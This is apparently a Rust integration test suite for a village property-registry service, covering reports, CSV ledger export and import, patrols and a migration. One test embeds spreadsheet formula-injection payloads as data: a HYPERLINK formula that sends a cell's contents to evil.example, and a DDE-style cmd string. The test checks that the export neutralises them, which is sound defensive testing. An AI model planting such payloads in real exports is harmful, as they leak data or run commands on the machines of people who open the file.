//! The village summary, the ledger export and import, and grid patrols.
// A test fails by panicking: unwrapping is how it says what it expected.
#![allow(clippy::unwrap_used)]

mod common;

use common::scene::date;
use common::{Backend, JsonExt, Session, TestApp, resident_id};
use serde_json::{Value, json};

async fn inspect(app: &TestApp, inspector: &Session, property_id: &str, kind: &str, on: &str, failing: &[&str]) {
    app.inspect(inspector, property_id, kind, on, failing).await.expect(201);
}

/// Counts one SQL query straight from the database, independent of the service's own queries.
fn sql_count(app: &TestApp, sql: &str) -> i64 {
    use diesel::prelude::*;
    #[derive(QueryableByName)]
    struct N {
        #[diesel(sql_type = diesel::sql_types::BigInt)]
        n: i64,
    }
    let mut conn = app.db.get().unwrap();
    diesel::sql_query(sql).get_result::<N>(&mut *conn).unwrap().n
}

/// A village with properties in every state, units, tenants and orders; returns (village, admin, auditor, inspector, landlord).
async fn seeded_village(app: &TestApp) -> (common::Village, Session, Session, Session) {
    let v = app.setup_village().await;
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    let auditor = app.user(&v.admin, "auditor", Some(&v.id)).await;
    let inspector = app.user(&v.admin, "inspector", Some(&v.id)).await;
    let grid = app
        .post(
            &format!("/api/v1/villages/{}/grids", v.id),
            Some(&v.admin.token),
            json!({"name": "一组", "code": "G1"}),
        )
        .await
        .expect(201)
        .body;
    let mut properties = Vec::new();
    for n in 0..5 {
        let p = app
            .post("/api/v1/properties", Some(&landlord.token),
                  json!({"name": format!("楼{n}"), "address": format!("中路{n}号"), "village_id": v.id, "grid_id": if n < 3 { grid["id"].clone() } else { Value::Null },
                         "kind": if n == 4 { "factory" } else { "apartment" }, "floors": 3, "floor_area_m2": 300.0, "mixed_use_residence": n == 4}))
            .await
            .expect(201)
            .body;
        properties.push(p.id().to_owned());
    }
    inspect(app, &inspector, &properties[0], "apartment", &date(0), &[]).await;
    inspect(
        app,
        &inspector,
        &properties[1],
        "apartment",
        &date(-1),
        &["ESC-01", "MGT-01"],
    )
    .await;
    // Rated 25 months ago, so expired: an inspection may be entered at most 366 days back, so the validity
    // such a rating would have is set directly.
    inspect(app, &inspector, &properties[2], "apartment", &date(-366), &[]).await;
    {
        use anzu::db::schema::properties;
        use diesel::prelude::*;
        let expired_on = anzu::ids::today().checked_sub_months(chrono::Months::new(1)).unwrap();
        let mut conn = app.db.get().unwrap();
        diesel::update(properties::table.filter(properties::id.eq(&properties[2])))
            .set(properties::rating_valid_until.eq(expired_on))
            .execute(&mut *conn)
            .unwrap();
    }
    let mut seq = 1;
    for (i, pid) in properties.iter().enumerate() {
        for u in 0..2 {
            let unit = app
                .unit(&landlord, pid, &format!("{u}0{i}"), if u == 0 { 5.0 } else { 20.0 })
                .await;
            for t in 0..(u + i % 2 + 1) {
                let move_in = if t == 0 { date(-10) } else { date(0) };
                app.declare(&landlord, unit.id(), &resident_id("19850505", seq), &move_in)
                    .await
                    .expect(201);
                seq += 2;
            }
        }
    }
    (v, auditor, inspector, landlord)
}

async fn the_summary_matches_counts_taken_independently(backend: Backend) {
    let app = TestApp::start(backend).await;
    let (v, auditor, inspector, _) = seeded_village(&app).await;
    let other = app.setup_village().await;
    let other_landlord = app.user(&other.admin, "landlord", Some(&other.id)).await;
    app.property(&other_landlord, &other.id).await;

    let summary = app
        .get(
            &format!("/api/v1/reports/summary?village_id={}", v.id),
            Some(&auditor.token),
        )
        .await
        .expect(200)
        .body;
    let in_village = |table_sql: &str| sql_count(&app, &table_sql.replace("{v}", &v.id));
    assert_eq!(
        summary["properties"]["total"],
        in_village("SELECT COUNT(*) AS n FROM properties WHERE village_id = '{v}'")
    );
    assert_eq!(
        summary["properties"]["by_status"],
        json!({"expired": 1, "rated": 1, "rectification": 1, "registered": 2})
    );
    assert_eq!(summary["properties"]["by_stars"], json!({"0": 1, "5": 2, "unrated": 2}));
    assert_eq!(
        summary["units"],
        in_village(
            "SELECT COUNT(*) AS n FROM units u JOIN properties p ON p.id = u.property_id WHERE p.village_id = '{v}'"
        )
    );
    assert_eq!(
        summary["active_tenancies"],
        in_village(
            "SELECT COUNT(*) AS n FROM tenancies t JOIN properties p ON p.id = t.property_id WHERE p.village_id = '{v}' AND t.move_out_date IS NULL"
        )
    );
    assert_eq!(
        summary["late_declarations"],
        in_village(
            "SELECT COUNT(*) AS n FROM tenancies t JOIN properties p ON p.id = t.property_id WHERE p.village_id = '{v}' AND t.late AND t.move_out_date IS NULL"
        )
    );
    assert_eq!(
        summary["overcrowded_units"],
        in_village(
            "SELECT COUNT(*) AS n FROM units u JOIN properties p ON p.id = u.property_id WHERE p.village_id = '{v}' AND u.active_tenants > u.max_occupants"
        )
    );
    assert!(summary["overcrowded_units"].as_i64().unwrap() > 0 && summary["late_declarations"].as_i64().unwrap() > 0);
    assert_eq!(summary["rectifications"], json!({"open": 2, "overdue": 0}));
    assert_eq!(summary["grids"][0]["properties_not_visited_30d"], 3);

    let grid_id = summary["grids"][0].str("grid_id").to_owned();
    let some_property = app
        .get(
            &format!("/api/v1/properties?grid_id={grid_id}&limit=1"),
            Some(&auditor.token),
        )
        .await
        .expect(200)
        .body["items"][0]["id"]
        .clone();
    app.post(
        &format!("/api/v1/grids/{grid_id}/patrols"),
        Some(&inspector.token),
        json!({"patrolled_on": date(0), "visits": [{"property_id": some_property, "finding": "ok"}]}),
    )
    .await
    .expect(201);
    let after = app
        .get(
            &format!("/api/v1/reports/summary?village_id={}", v.id),
            Some(&auditor.token),
        )
        .await
        .expect(200)
        .body;
    assert_eq!(after["grids"][0]["properties_not_visited_30d"], 2);

    let town = app
        .get("/api/v1/reports/summary", Some(&v.admin.token))
        .await
        .expect(200)
        .body;
    assert_eq!(
        town["properties"]["total"],
        summary["properties"]["total"].as_i64().unwrap() + 1
    );
    let own = app
        .get("/api/v1/reports/summary", Some(&auditor.token))
        .await
        .expect(200)
        .body;
    assert_eq!(own["village_id"], json!(v.id));
    app.get(
        &format!("/api/v1/reports/summary?village_id={}", other.id),
        Some(&auditor.token),
    )
    .await
    .problem(404);
    app.get(
        &format!("/api/v1/reports/ledger.csv?village_id={}", other.id),
        Some(&auditor.token),
    )
    .await
    .problem(404);
    app.get("/api/v1/reports/summary", Some(&inspector.token))
        .await
        .problem(403);
}

/// The ledger's data lines, split into fields.
fn csv_rows(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    assert!(text.starts_with('\u{feff}'), "UTF-8 with a byte-order mark");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

/// The village's ledger as its admin exports it.
async fn exported_ledger(app: &TestApp, v: &common::Village) -> Vec<u8> {
    app.get(
        &format!("/api/v1/reports/ledger.csv?village_id={}", v.id),
        Some(&v.admin.token),
    )
    .await
    .expect(200)
    .bytes
}

/// Where the ledger's column for `key` is (headers read `单元(unit_label)`).
fn column(header: &[String], key: &str) -> usize {
    header.iter().position(|h| h.ends_with(&format!("({key})"))).unwrap()
}

async fn the_ledger_exports_and_imports_back_the_same(backend: Backend) {
    let app = TestApp::start(backend).await;
    let (v, auditor, _, _) = seeded_village(&app).await;
    let export = app
        .get(
            &format!("/api/v1/reports/ledger.csv?village_id={}", v.id),
            Some(&auditor.token),
        )
        .await
        .expect(200);
    assert!(export.header("content-type").unwrap().starts_with("text/csv"));
    let (header, rows) = csv_rows(&export.bytes);
    assert_eq!(header[0], "登记号(registration_code)");
    assert_eq!(rows.len(), 10, "a row per unit");
    let text = String::from_utf8_lossy(&export.bytes);
    for seq in [1, 3, 5] {
        let number = resident_id("19850505", seq);
        assert!(
            !text.contains(&number) && !text.contains(&number[..10]),
            "no identity number, masked or not"
        );
    }

    // Into an empty database with the same village and grid.
    let fresh = TestApp::start(backend).await;
    let admin = fresh.admin().await;
    let village = fresh
        .post(
            "/api/v1/villages",
            Some(&admin.token),
            json!({"name": "Again", "code": v.code}),
        )
        .await
        .expect(201)
        .body;
    let vid = village.id();
    fresh
        .post(
            &format!("/api/v1/villages/{vid}/grids"),
            Some(&admin.token),
            json!({"name": "一组", "code": "G1"}),
        )
        .await
        .expect(201);
    let path = format!("/api/v1/imports/ledger?village_id={vid}");
    let dry = fresh
        .send_raw(
            "POST",
            &format!("{path}&dry_run=true"),
            Some(&admin.token),
            "text/csv",
            export.bytes.clone(),
        )
        .await
        .expect(200)
        .body;
    assert_eq!(
        (dry["accepted"].as_u64(), dry["committed"].as_bool()),
        (Some(10), Some(false))
    );
    assert_eq!(dry["created"], json!({"properties": 5, "units": 10, "landlords": 1}));
    assert_eq!(fresh.count("properties"), 0, "a dry run writes nothing");

    let imported = fresh
        .send_raw("POST", &path, Some(&admin.token), "text/csv", export.bytes.clone())
        .await
        .expect(200)
        .body;
    assert_eq!(imported["rejected"], json!([]));
    assert_eq!(
        imported["created"],
        json!({"properties": 5, "units": 10, "landlords": 1})
    );
    let again = fresh
        .send_raw("POST", &path, Some(&admin.token), "text/csv", export.bytes.clone())
        .await
        .expect(200)
        .body;
    assert_eq!(
        again["created"],
        json!({"properties": 0, "units": 0, "landlords": 0}),
        "re-import creates nothing"
    );
    assert_eq!(again["accepted"], 10);
    let summary = fresh
        .get(&format!("/api/v1/reports/summary?village_id={vid}"), Some(&admin.token))
        .await
        .expect(200)
        .body;
    assert_eq!(summary["units"], 10, "the imported units counted once each: {summary}");

    let re_export = fresh
        .get(
            &format!("/api/v1/reports/ledger.csv?village_id={vid}"),
            Some(&admin.token),
        )
        .await
        .expect(200);
    let (_, copied) = csv_rows(&re_export.bytes);
    // What the ledger describes, not what was computed from inspections and tenants since.
    let described = |rows: &[Vec<String>]| {
        let mut kept: Vec<Vec<String>> = rows
            .iter()
            .map(|r| {
                [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 14, 15, 16, 17]
                    .iter()
                    .map(|&i| r[i].clone())
                    .collect()
            })
            .collect();
        kept.sort();
        kept
    };
    assert_eq!(described(&copied), described(&rows));

    // The new landlord sets a password with the e-mailed one-time link.
    // The link is sealed in the outbox and put into the message only when it is sent.
    fresh.delivery(60).drain().await.unwrap();
    let link = {
        let dir = fresh.work_dir.path().join("outbox");
        let mails: Vec<common::Mail> = std::fs::read_dir(dir)
            .unwrap()
            .flatten()
            .map(|e| common::parse_mail(&std::fs::read(e.path()).unwrap()))
            .collect();
        let invitation = mails
            .iter()
            .find(|m| m.text.contains("token=") && m.text.contains(&rows[0][9]))
            .expect("the first owner was sent an invitation");
        invitation
            .text
            .split_whitespace()
            .find(|w| w.contains("token="))
            .unwrap()
            .to_owned()
    };
    let token = link.split("token=").nth(1).unwrap();
    let page = fresh
        .get(&format!("/set-password?token={token}"), None)
        .await
        .expect(200);
    assert!(
        String::from_utf8_lossy(&page.bytes).contains("/api/v1/auth/set-password"),
        "the link opens a form"
    );
    let owner_phone = &rows[0][9];
    fresh.login(owner_phone, "anything-at-all").await.problem(401);
    assert_eq!(
        fresh
            .post(
                "/api/v1/auth/set-password",
                None,
                json!({"token": token, "password": "my-own-password"})
            )
            .await
            .status,
        204
    );
    fresh
        .post(
            "/api/v1/auth/set-password",
            None,
            json!({"token": token, "password": "my-own-password"}),
        )
        .await
        .problem(401);
    fresh.login(owner_phone, "my-own-password").await.expect(200);
}

async fn bad_rows_are_named_and_nothing_is_written(backend: Backend) {
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    app.post(
        &format!("/api/v1/villages/{}/grids", v.id),
        Some(&v.admin.token),
        json!({"name": "一组", "code": "G1"}),
    )
    .await
    .expect(201);
    let header = "房屋名称(property_name)\t地址(address)\t网格(grid)\t房屋类型(kind)\t楼层数(floors)\t建筑面积(floor_area_m2)\t房东姓名(owner_name)\t房东电话(owner_phone)\t房东邮箱(owner_email)\t单元(unit_label)\t所在楼层(unit_floor)\t单元面积(area_m2)\t单元类型(unit_kind)";
    let file = [
        header,
        "好楼\t东路1号\tG1\tapartment\t3\t200\t张三\t13700000001\tzhang@example.cn\t101\t1\t15\troom",
        "好楼\t东路1号\tG1\tapartment\t3\t200\t张三\t13700000001\tzhang@example.cn\t102\t1\t-4\troom",
        "好楼\t东路1号\tG9\tapartment\t3\t200\t张三\t13700000001\tzhang@example.cn\t103\t1\t15\troom",
        "好楼\t东路1号\tG1\tapartment\t3\t200\t张三\t13700000001\tzhang@example.cn\t101\t1\t15\troom",
        "好楼\t东路1号\tG1\tapartment\t3\t200\t张三\t13700000001",
        "好楼\t东路1号\tG1\tapartment\t3\t200\t张三\t13700000001\tzhang@example.cn\t104\t1\t15\troom",
    ]
    .join("\n");
    let path = format!("/api/v1/imports/ledger?village_id={}", v.id);
    let answer = app
        .send_raw(
            "POST",
            &path,
            Some(&v.admin.token),
            "text/tab-separated-values",
            file.clone().into_bytes(),
        )
        .await
        .expect(200)
        .body;
    let rejected: Vec<(u64, &str)> = answer["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["line"].as_u64().unwrap(), r.str("column")))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (3, "area_m2"),
            (4, "grid"),
            (5, "unit_label"),
            (6, "owner_email"),
            (6, "unit_label"),
            (6, "unit_floor"),
            (6, "area_m2"),
            (6, "unit_kind")
        ],
        "every bad cell of a line is named"
    );
    assert_eq!(
        (answer["accepted"].as_u64(), answer["committed"].as_bool()),
        (Some(2), Some(false))
    );
    assert_eq!(
        (app.count("properties"), app.count("units")),
        (0, 0),
        "one bad row stops the whole file"
    );

    let partial = app
        .send_raw(
            "POST",
            &format!("{path}&partial=true"),
            Some(&v.admin.token),
            "text/csv",
            file.into_bytes(),
        )
        .await
        .expect(200)
        .body;
    assert_eq!(partial["committed"], true);
    assert_eq!((app.count("properties"), app.count("units")), (1, 2));

    let no_columns = "房屋名称(property_name),地址(address)\n好楼,东路1号\n";
    let refused = app
        .send_raw(
            "POST",
            &path,
            Some(&v.admin.token),
            "text/csv",
            no_columns.as_bytes().to_vec(),
        )
        .await
        .expect(200)
        .body;
    assert!(refused.array("rejected").iter().all(|r| r["line"] == 1));
    assert!(
        refused["rejected"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["column"] == "unit_label")
    );

    let auditor = app.user(&v.admin, "auditor", Some(&v.id)).await;
    let far = app.village(&v.admin).await;
    app.send_raw(
        "POST",
        &format!("/api/v1/imports/ledger?village_id={}", far.id()),
        Some(&auditor.token),
        "text/csv",
        b"x".to_vec(),
    )
    .await
    .problem(404);
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    app.send_raw("POST", &path, Some(&landlord.token), "text/csv", b"x".to_vec())
        .await
        .problem(403);
    // Only a CSV is a ledger.
    for content_type in ["application/json", "text/plain", "application/octet-stream"] {
        app.send_raw("POST", &path, Some(&v.admin.token), content_type, b"x".to_vec())
            .await
            .problem(415);
    }
    app.send_raw(
        "POST",
        &path,
        Some(&v.admin.token),
        "text/csv; charset=utf-8",
        b"x".to_vec(),
    )
    .await
    .expect(200);
}

async fn patrols_are_recorded_by_village_inspectors(backend: Backend) {
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    let inspector = app.user(&v.admin, "inspector", Some(&v.id)).await;
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    let grid = app
        .post(
            &format!("/api/v1/villages/{}/grids", v.id),
            Some(&v.admin.token),
            json!({"name": "一组", "code": "G1"}),
        )
        .await
        .expect(201)
        .body;
    let path = format!("/api/v1/grids/{}/patrols", grid.id());
    let p = app.property(&landlord, &v.id).await;
    let body = json!({"patrolled_on": date(0), "visits": [{"property_id": p["id"], "finding": "issue", "note": "楼道堆放杂物"}]});
    let patrol = app
        .post(&path, Some(&inspector.token), body.clone())
        .await
        .expect(201)
        .body;
    assert_eq!(patrol["visits"][0]["finding"], "issue");
    let bad = app
        .post(&path, Some(&inspector.token), json!({"patrolled_on": date(1), "visits": [{"property_id": "01a228c9-0000-7000-8000-000000000000", "finding": "ok"}, {"property_id": p["id"], "finding": "issue"}]}))
        .await;
    assert_eq!(
        bad.error_fields(),
        vec!["patrolled_on", "visits[0].property_id", "visits[1].note"]
    );
    bad.problem(422);
    app.post(&path, Some(&landlord.token), body.clone()).await.problem(403);
    let far = app.village(&v.admin).await;
    let far_inspector = app.user(&v.admin, "inspector", far["id"].as_str()).await;
    app.post(&path, Some(&far_inspector.token), body).await.problem(404);
    let listed = app.get(&path, Some(&inspector.token)).await.expect(200).body;
    assert_eq!(listed["items"][0]["id"], patrol["id"]);
    app.get(&path, Some(&far_inspector.token)).await.problem(404);
}

/// An export of many pages (500 units each) holds every unit of the village once and no other, property by
/// property and each property's units by label, whatever order their ids were made in: the pages follow one
/// another by (property, label), and the other village's properties sit between the village's in id order.
async fn a_ledger_of_many_pages_holds_each_unit_once(backend: Backend) {
    use anzu::registry::model::{CreateProperty, CreateUnit, PropertyRow, UnitRow};
    const PROPERTIES: usize = 430;
    const UNITS: usize = 7;
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    let other = app.village(&v.admin).await;
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    let at = chrono::Utc::now().naive_utc();
    let property = |n: usize, village: &str| {
        let input: CreateProperty = serde_json::from_value(json!({"village_id": village, "name": format!("楼 {n}"),
            "address": format!("路 {n} 号"), "kind": "apartment", "floors": 3, "floor_area_m2": 300.0}))
        .unwrap();
        let code = if village == v.id { &v.code } else { other.str("code") };
        PropertyRow::registered(input, format!("{code}-{:06}", n + 1), landlord.id(), at)
    };
    let unit = |property_id: &str, j: usize| {
        let input: CreateUnit = serde_json::from_value(
            json!({"label": format!("{}", 101 + j), "floor": 1, "area_m2": 20.0, "kind": "room"}),
        )
        .unwrap();
        UnitRow::new(property_id, input, 5.0, at)
    };
    let (village_id, other_id) = (v.id.clone(), other.id().to_owned());
    let expected: Vec<(String, String)> = app
        .db
        .write_blocking(move |conn| {
            let mut expected = Vec::new();
            for n in 0..PROPERTIES {
                let (mine, theirs) = (property(n, &village_id), property(n, &other_id));
                for row in [&mine, &theirs] {
                    anzu::registry::repo::insert_property(conn, row)?;
                    for j in (0..UNITS).rev() {
                        anzu::registry::repo::insert_unit(conn, &unit(&row.id, j))?;
                    }
                }
                for j in 0..UNITS {
                    expected.push((mine.registration_code.clone(), format!("{}", 101 + j)));
                }
            }
            Ok(expected)
        })
        .unwrap();
    let (header, rows) = csv_rows(&exported_ledger(&app, &v).await);
    let (code, label) = (column(&header, "registration_code"), column(&header, "unit_label"));
    let exported: Vec<(String, String)> = rows.iter().map(|r| (r[code].clone(), r[label].clone())).collect();
    assert_eq!(
        exported.len(),
        PROPERTIES * UNITS,
        "every unit of the village, over two pages"
    );
    // Property ids are made in order, so the village's properties come in the order they were made.
    assert_eq!(exported, expected);
}

async fn summary_units(app: &TestApp, auditor: &Session, village_id: &str) -> Value {
    app.get(
        &format!("/api/v1/reports/summary?village_id={village_id}"),
        Some(&auditor.token),
    )
    .await
    .expect(200)
    .body["units"]
        .clone()
}

/// The summary sums the units each property counts; the migration that added the counter counted the units
/// already registered (reverted and run again here over a village with units).
async fn the_unit_counter_migration_counts_existing_units(backend: Backend) {
    use diesel::migration::MigrationSource;
    use diesel_migrations::{FileBasedMigrations, MigrationHarness};
    let app = TestApp::start(backend).await;
    let (v, auditor, _, _) = seeded_village(&app).await;
    let counted = sql_count(
        &app,
        &format!(
            "SELECT COUNT(*) AS n FROM units u JOIN properties p ON p.id = u.property_id WHERE p.village_id = '{}'",
            v.id
        ),
    );
    assert_eq!(counted, 10);
    assert_eq!(
        summary_units(&app, &auditor, &v.id).await,
        counted,
        "kept by the registry as units are added"
    );
    {
        let folder = match backend {
            Backend::Sqlite => "sqlite",
            Backend::Postgres => "postgres",
        };
        let migrations =
            FileBasedMigrations::from_path(format!("{}/migrations/{folder}", env!("CARGO_MANIFEST_DIR"))).unwrap();
        // Back to before the counter (and whatever came after it), then forward again.
        fn redo<C: MigrationHarness<B>, B: diesel::backend::Backend>(c: &mut C, migrations: FileBasedMigrations)
        where
            FileBasedMigrations: MigrationSource<B>,
        {
            let counter = MigrationSource::<B>::migrations(&migrations)
                .unwrap()
                .into_iter()
                .find(|m| m.name().to_string().ends_with("_property_unit_counts"))
                .unwrap()
                .name()
                .version()
                .as_owned();
            while c.revert_last_migration(migrations.clone()).unwrap() != counter {}
            c.run_pending_migrations(migrations).unwrap();
        }
        let mut conn = app.db.get().unwrap();
        match &mut *conn {
            anzu::db::DbConn::Pg(c) => redo(c, migrations),
            anzu::db::DbConn::Sqlite(c) => redo(c, migrations),
        }
    }
    assert_eq!(
        summary_units(&app, &auditor, &v.id).await,
        counted,
        "counted again by the migration"
    );
}

backend_tests!(
    the_unit_counter_migration_counts_existing_units,
    the_summary_matches_counts_taken_independently,
    the_ledger_exports_and_imports_back_the_same,
    a_ledger_of_many_pages_holds_each_unit_once,
    bad_rows_are_named_and_nothing_is_written,
    patrols_are_recorded_by_village_inspectors,
);

const FORMULA_NAME: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;

/// A cell that a spreadsheet would run as a formula is exported with a leading `'`; the import takes it off
/// again, so the ledger goes round unchanged.
async fn ledger_cells_never_run_as_formulas(backend: Backend) {
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    let address = "@SUM(1+1)*cmd|' /C calc'!A0";
    let property = app
        .post(
            "/api/v1/properties",
            Some(&landlord.token),
            json!({"name": FORMULA_NAME, "address": address, "village_id": v.id, "kind": "apartment",
                   "floors": 3, "floor_area_m2": 300.0}),
        )
        .await
        .expect(201)
        .body;
    let pid = property.id();
    app.post(
        &format!("/api/v1/properties/{pid}/units"),
        Some(&landlord.token),
        json!({"label": "-1", "floor": -1, "area_m2": 20.0, "kind": "workshop"}),
    )
    .await
    .expect(201);

    let export = exported_ledger(&app, &v).await;
    let (header, rows) = csv_rows(&export);
    let cell = |key: &str| {
        let at = column(&header, key);
        rows[0][at].clone()
    };
    assert_eq!(cell("property_name"), format!("'{FORMULA_NAME}"));
    assert_eq!(cell("address"), format!("'{address}"));
    assert_eq!(cell("unit_label"), "'-1", "a text column is guarded");
    assert_eq!(cell("unit_floor"), "-1", "a numeric column stays a number");
    for row in &rows {
        for value in row {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']) || value.parse::<f64>().is_ok(),
                "{value}"
            );
        }
    }

    // Into a fresh database with the same village: the original text comes back.
    let fresh = TestApp::start(backend).await;
    let admin = fresh.admin().await;
    let village = fresh
        .post(
            "/api/v1/villages",
            Some(&admin.token),
            json!({"name": "Again", "code": v.code}),
        )
        .await
        .expect(201)
        .body;
    let vid = village.id();
    let imported = fresh
        .send_raw(
            "POST",
            &format!("/api/v1/imports/ledger?village_id={vid}"),
            Some(&admin.token),
            "text/csv",
            export.clone(),
        )
        .await
        .expect(200)
        .body;
    assert_eq!(imported["rejected"], json!([]));
    assert_eq!(imported["committed"], true);
    let properties = fresh
        .get(&format!("/api/v1/properties?village_id={vid}"), Some(&admin.token))
        .await
        .expect(200)
        .body;
    let copy = &properties["items"][0];
    assert_eq!(copy["name"], FORMULA_NAME);
    assert_eq!(copy["address"], address);
    let units = fresh
        .get(&format!("/api/v1/properties/{}/units", copy.id()), Some(&admin.token))
        .await
        .expect(200)
        .body;
    assert_eq!(
        (&units["items"][0]["label"], &units["items"][0]["floor"]),
        (&json!("-1"), &json!(-1))
    );
}

backend_tests!(ledger_cells_never_run_as_formulas);

/// The import reads each line into the API's request types and checks them with the API's rules: what the
/// API refuses, a file cannot slip in, and every bad cell is named without its value.
async fn the_ledger_import_runs_the_api_rules(backend: Backend) {
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    let header = "房屋名称(property_name),地址(address),房屋类型(kind),楼层数(floors),建筑面积(floor_area_m2),房东姓名(owner_name),房东电话(owner_phone),房东邮箱(owner_email),单元(unit_label),所在楼层(unit_floor),单元面积(area_m2),单元类型(unit_kind),核定人数(max_occupants)";
    let owner = "张三,13700000001,zhang@example.cn";
    let long_name = "楼".repeat(5000);
    let file = [
        header.to_owned(),
        format!("{long_name},东路1号,apartment,3,200,{owner},101,1,15,room,"),
        "好楼,东路1号,apartment,3,200,\"张\r\n三\",13700000001,zhang@example.cn,102,1,15,room,".to_owned(),
        format!("好楼,东路1号,apartment,3,1e308,{owner},103,1,15,room,"),
        format!("好楼,东路1号,apartment,3,200,{owner},104,1,15,room,2147483647"),
        format!("好楼,东路1号,castle,3.5,200,{owner},105,99999999999,NaN,cave,-1"),
        format!("好\u{202E}楼,东路1号,apartment,3,200,{owner},106,1,15,room,"),
        format!("Cafe\u{301},东路1号,apartment,3,200,{owner},107,1,15,room,4"),
    ]
    .join("\n");
    let path = format!("/api/v1/imports/ledger?village_id={}&partial=true", v.id);
    let answer = app
        .send_raw("POST", &path, Some(&v.admin.token), "text/csv", file.into_bytes())
        .await
        .expect(200);
    let report = &answer.body;
    let rejected: Vec<(u64, &str)> = report["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["line"].as_u64().unwrap(), r.str("column")))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (2, "property_name"),
            (3, "owner_name"),
            (5, "floor_area_m2"),
            (6, "max_occupants"),
            (7, "kind"),
            (7, "floors"),
            (7, "unit_floor"),
            (7, "area_m2"),
            (7, "unit_kind"),
            (7, "max_occupants"),
            (8, "property_name"),
        ],
        "{report}"
    );
    let text = String::from_utf8_lossy(&answer.bytes);
    for echoed in [
        "楼楼楼",
        "1e308",
        "2147483647",
        "99999999999",
        "castle",
        "cave",
        "NaN",
        "\u{202E}",
    ] {
        assert!(!text.contains(echoed), "{echoed} in {text}");
    }
    let kind_reason = report["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["column"] == "kind")
        .unwrap()["reason"]
        .clone();
    assert_eq!(
        kind_reason,
        "must be one of: apartment, shared_house, factory, shop, mixed_use"
    );
    assert_eq!(
        (report["accepted"].as_u64(), report["committed"].as_bool()),
        (Some(1), Some(true))
    );

    let properties = app
        .get(&format!("/api/v1/properties?village_id={}", v.id), Some(&v.admin.token))
        .await
        .expect(200)
        .body;
    let items = properties.array("items");
    assert_eq!(items.len(), 1);
    assert_eq!(items[0]["name"], "Caf\u{e9}", "stored NFC-normalised");
    assert_eq!(items[0]["capacity"], 4);
    assert_eq!(app.count("units"), 1);
}

backend_tests!(the_ledger_import_runs_the_api_rules);

/// A patrol's date stays within 1900–2100 and its notes refuse invisible characters.
async fn patrols_follow_the_input_rules(backend: Backend) {
    let app = TestApp::start(backend).await;
    let v = app.setup_village().await;
    let inspector = app.user(&v.admin, "inspector", Some(&v.id)).await;
    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
    let grid = app
        .post(
            &format!("/api/v1/villages/{}/grids", v.id),
            Some(&v.admin.token),
            json!({"name": "一组", "code": "G1"}),
        )
        .await
        .expect(201)
        .body;
    let path = format!("/api/v1/grids/{}/patrols", grid.id());
    let p = app.property(&landlord, &v.id).await;
    let answer = app
        .post(
            &path,
            Some(&inspector.token),
            json!({"patrolled_on": "1899-12-31", "visits": [{"property_id": p["id"], "finding": "issue", "note": "杂物\u{202E}"}]}),
        )
        .await;
    assert_eq!(answer.error_fields(), vec!["patrolled_on", "visits[0].note"]);
    answer.problem(422);
    assert_eq!(app.count("patrols"), 0);
}

backend_tests!(patrols_follow_the_input_rules);
